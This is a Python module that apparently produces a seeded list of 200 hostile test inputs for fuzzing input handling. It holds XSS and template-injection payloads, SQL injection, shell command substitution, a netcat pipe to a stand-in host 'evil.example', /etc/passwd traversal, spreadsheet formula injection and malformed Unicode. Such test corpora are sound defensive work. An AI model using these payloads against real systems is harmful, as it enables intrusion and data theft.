"""Two hundred texts that are meant to do harm, or do it without meaning to: as codes, names and reasons."""

from __future__ import annotations

import random

_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=pin>",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "]]><script>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
_PROGRAMS = (
    "'; DROP TABLE records; --",
    "1 OR 1=1",
    "' UNION SELECT body FROM records --",
    "$(reboot)",
    "`reboot`",
    "| nc evil.example 9",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    '=HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "%s%s%s%n",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    '{"a":1}',
    "[]",
    '"',
    "'",
    "\\",
    '\\"',
)
_STREAMS = (
    "data: x\n\nevent: snapshot\ndata: {}",
    "\n\nevent: record\ndata: {}\n\n",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "a\rb",
    "id: 0",
    ": comment",
    "a\u2028b\u2029c",
    "a\u0085b",
)
_LETTERS = (
    "\u202egnp.exe",
    "\u2066\u2067\u2068\u2069",
    "\ufeffx",
    "\u200b\u200b\u200b",
    "ه" * 60,
    "Z\u0351\u036b\u0343" * 30,
    "😀" * 60,
    "👨‍👩‍👧‍👦" * 20,
    "大白菜" * 40,
    "W" * 400,
    "i" * 400,
    "一" * 400,
    "x" * 499,
    " " * 40 + "x",
    "\t\tx",
    "a\x00b",
    "\x1b[2J\x1b[31m",
    "\x07\x08\x7f",
    "]C1010690102822516810\x1dB",
    "\ud7ff\ue000",
    "\uffff",
    "𠮷野家𪚥",
    "İstanbul ı",
    "ß",
    "ﬃ",
    "-0",
    "1e400",
    "9" * 60,
    "0x1F",
    "１２３",
    "2026-13-45",
)


def texts(count: int = 200) -> list[str]:
    """So many hostile texts: the known ones, and mixtures of them; always the same."""
    known = [*_MARKUP, *_PROGRAMS, *_STREAMS, *_LETTERS]
    chooser = random.Random(20261126)
    mixed = ["".join(chooser.sample(known, 2))[:480] for _ in range(2 * count)]
    return list(dict.fromkeys([*known, *mixed]))[:count]
